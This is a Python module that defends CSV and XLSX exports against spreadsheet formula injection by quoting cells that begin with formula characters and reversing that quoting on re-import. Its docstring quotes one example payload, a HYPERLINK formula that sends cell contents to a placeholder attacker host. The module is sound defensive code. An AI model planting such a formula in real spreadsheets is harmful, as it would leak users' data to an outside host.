"""Cells a spreadsheet will not run (OWASP's CSV injection): one rule for every CSV and XLSX the
project writes, the API's lists (facts.api.csv_export) and the admin's exports
(facts.workspace.resources) alike.

A text cell starting with = + - @, a tab or a carriage return is a formula to Excel,
LibreOffice or Google Sheets (=HYPERLINK("http://evil.example/?x="&A1,"click") sends the
row away when clicked): it is written with a leading apostrophe, which spreadsheets read as
"this is text". A text that already starts with an apostrophe before one of those gets one
more, so that `as_written` gives every stored text back exactly when a file is imported again.

Numbers are not text: a number column keeps -5 a number (the writers pass numbers, not their
digits, or say the column is numeric). Stored values are never changed; only the cells are.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _needs_quote(text: str) -> bool:
    """A formula start, after any apostrophes."""
    return text.lstrip(QUOTE).startswith(FORMULA_STARTS)


def inert(cell: Any) -> Any:
    """The cell as a spreadsheet should get it: text that would start a formula behind an
    apostrophe; anything that is not text (a number, a day, None) as it is."""
    if isinstance(cell, str) and _needs_quote(cell):
        return QUOTE + cell
    return cell


def as_written(cell: Any) -> Any:
    """The text an `inert` cell stands for (a file exported and imported back changes nothing);
    any other cell as it is."""
    if isinstance(cell, str) and cell.startswith(QUOTE) and _needs_quote(cell[1:]):
        return cell[1:]
    return cell
